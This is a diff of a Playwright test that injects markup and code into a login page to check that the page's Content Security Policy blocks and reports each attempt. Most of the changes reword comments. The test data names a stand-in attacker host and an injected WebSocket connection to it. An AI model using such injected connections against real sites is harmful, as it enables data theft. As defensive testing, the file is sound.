@@ -4,8 +4,8 @@ import { NGINX_URL } from '../../e2e/playwright.config'
 
 /**
  * Tests the page as nginx sends it, with injected content. That content must run no code, load
- * nothing and send nothing, and the browser must report each attempt. The hosts that a build allows
- * are tested in src/build/headers.test.ts.
+ * nothing and send nothing, and the browser must report each attempt. Hosts that a build allows are
+ * tested in src/build/headers.test.ts.
  */
 
 const EVIL = 'https://evil.example'
@@ -34,12 +34,12 @@ const MARKUP: readonly Attempt[] = [
 ]
 
 /**
- * Returns an attempt to use a string where the browser requires a trusted value. Only a few
- * functions are tried, because browsers decide which functions require a trusted value.
+ * Passes a string where the browser requires a trusted value. Browsers decide which functions do,
+ * so only a few are tried.
  */
 const untrustedAttempt = (code: string) => attempt(code, 'require-trusted-types-for', 'trusted-types-sink')
 
-/** Attempts of injected code that already runs. Each `name` is the body of a function. */
+/** Attempts of injected code that already runs. Each `name` is the code of the attempt. */
 const CODE: readonly Attempt[] = [
   attempt(`new WebSocket('wss://evil.example/socket')`, 'connect-src', 'wss://evil.example/socket'),
   attempt(`new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='`, 'img-src', 'data'),
@@ -65,10 +65,7 @@ declare global {
   var make: (tag: string) => HTMLElement
 }
 
-/**
- * Opens Log-in with `markup` at the end of the page's body.
- * @returns the addresses of all requests to other hosts
- */
+/** Adds `markup` to the body of Log-in. Returns the addresses of all requests to other hosts. */
 async function openWith(page: Page, markup: string): Promise<string[]> {
   const outsideRequests: string[] = []
   await page.route(/^(?:https|http:\/\/evil)/, (route) => {
@@ -87,7 +84,7 @@ async function openWith(page: Page, markup: string): Promise<string[]> {
   await page.route(`${NGINX_URL}${paths.login()}`, async (route) => {
     const response = await route.fetch()
     const html = await response.text()
-    // Leaves out the headers of the compressed body, because the new body is uncompressed.
+    // Drops the headers of the compressed body, because the new body is uncompressed.
     const { 'content-encoding': _encoding, 'content-length': _length, ...headers } = response.headers()
     return route.fulfill({ response, headers, body: html.replace('</body>', () => `${markup}</body>`) })
   })
@@ -108,8 +105,8 @@ test.use({ serviceWorkers: 'allow', contextOptions: { reducedMotion: 'reduce' } 
 test('injected markup is blocked and reported, and the app still works', async ({ page }) => {
   const outsideRequests = await openWith(page, MARKUP.map(({ name }) => name).join('\n'))
   const expected = MARKUP.map(({ directive, blocked }) => `${directive} ${blocked}`).sort()
-  // Each attempt is reported twice, by the policy in the page and by the policy in the header.
-  // Nothing else is reported.
+  // The policy in the page and the policy in the header both report each attempt. Nothing else is
+  // reported.
   const reported = async () => {
     const violations = await page.evaluate(() => globalThis.reportedViolations)
     return violations.map(({ directive, blocked }) => `${directive} ${blocked}`).sort()
